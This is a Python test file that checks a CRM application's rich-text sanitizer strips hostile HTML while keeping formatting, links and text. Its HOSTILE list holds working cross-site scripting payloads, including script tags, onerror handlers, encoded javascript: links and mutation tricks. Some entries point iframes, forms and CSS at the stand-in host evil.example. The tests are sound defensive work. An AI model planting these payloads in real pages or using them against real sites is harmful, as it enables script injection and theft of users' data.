"""Hostile HTML goes into a rich text and nothing of it that runs comes out."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from crm_app.definitions.field import FieldDefinition
from crm_app.fields.rich_text import SCHEMES, TAGS, harmless, words
from crm_app.ui.records.input_values import input_text

RICH = FieldDefinition(name="note", label="Note", type="long_text", config={"format": "rich"})
HOSTILE = (
    "<script>alert(1)</script>hello",
    "<img src=x onerror=alert(1)>hello",
    "<p onclick='alert(1)'>hello</p>",
    "<a href='javascript:alert(1)'>hello</a>",
    "<a href='JaVa&#x53;cript:alert(1)'>hello</a>",
    "<a href=' &#14; javascript:alert(1)'>hello</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>hello</a>",
    "<svg/onload=alert(1)>hello",
    "<svg><style><img src=x onerror=alert(1)></style></svg>hello",
    "hello<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>hello",
    "<iframe src=//evil.example></iframe>hello",
    "<object data=x></object><embed src=x>hello",
    "<form action=//evil.example><input name=password></form>hello",
    "<style>*{background:url(//evil.example)}</style>hello",
    "<p style='background:url(//evil.example)'>hello</p>",
    "<base href=//evil.example>hello",
    "<meta http-equiv=refresh content='0;url=//evil.example'>hello",
    "<template><script>alert(1)</script></template>hello",
    "<<script>script>alert(1)<</script>/script>hello",
    "<p>hello<!--<img src='--><img src=x onerror=alert(1)>'></p>",
    "<xmp><script>alert(1)</script></xmp>hello",
    "<p id=root name=cookie class=fixed>hello</p>",
)


class Found(HTMLParser):
    """Every tag and attribute, as a browser would find them."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, str | None] = {}
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(attrs)


@pytest.mark.parametrize("markup", HOSTILE)
def test_what_could_run_is_gone_and_the_words_stay(markup: str) -> None:
    kept = RICH.parse(markup)
    assert "hello" in RICH.text(kept)
    found = Found(kept)
    assert found.tags <= TAGS
    assert set(found.attributes) <= {"href", "rel"}
    assert urlsplit(found.attributes.get("href") or "").scheme in {"", *SCHEMES}
    assert RICH.parse(kept) == kept


@pytest.mark.parametrize("tag", sorted(TAGS - {"br", "a"}))
def test_formatting_stays(tag: str) -> None:
    assert f"<{tag}>hello</{tag}>" in RICH.parse(f"<{tag}>hello</{tag}>")


def test_links_stay_and_say_nothing_of_where_they_come_from() -> None:
    kept = RICH.parse('<a href="https://example.com/?a=1&b=2" target="_top">there</a>')
    assert kept == '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow">there</a>'


def test_text_without_tags_becomes_paragraphs() -> None:
    assert RICH.parse("One & two\n\nthree") == "<p>One &amp; two</p><p>three</p>"
    assert RICH.parse("a < b") == "<p>a &lt; b</p>"
    assert RICH.text(RICH.parse("One & two\nthree")) == "One & two\nthree"


def test_what_was_stored_as_plain_text_is_harmless_too() -> None:
    stored = "<b>a</b><script>alert(1)</script>"
    assert (RICH.dump(stored), RICH.edit(stored), RICH.text(stored)) == ("<b>a</b>", "<b>a</b>", "a")


def test_a_text_of_nothing_but_tags_is_no_value() -> None:
    assert RICH.parse("<p><br></p>") is None
    assert RICH.parse("<img src=x>") is None


def test_the_editor_is_given_nothing_that_runs_even_from_an_address() -> None:
    assert input_text(RICH, "<img src=x onerror=alert(1)>hi", "UTC") == "<p>hi</p>"


@pytest.mark.parametrize("markup", ["<p>a</p><ul><li>b</li></ul>", "plain", "<b>x</b>", "&amp; & &lt;b&gt;"])
def test_cleaning_twice_is_cleaning_once(markup: str) -> None:
    assert harmless(harmless(markup)) == harmless(markup)
    assert "<" not in words("<h2>a</h2>b")
